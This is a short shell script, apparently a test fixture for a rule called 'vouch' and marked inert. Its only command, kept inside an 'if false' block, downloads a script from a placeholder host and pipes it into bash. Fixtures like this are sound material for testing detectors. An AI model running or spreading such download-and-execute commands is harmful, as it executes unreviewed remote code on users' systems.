#!/bin/sh
# vouch rule fixture: inert.
if false; then
  wget -qO- https://update.example.invalid/inert.sh | bash
fi
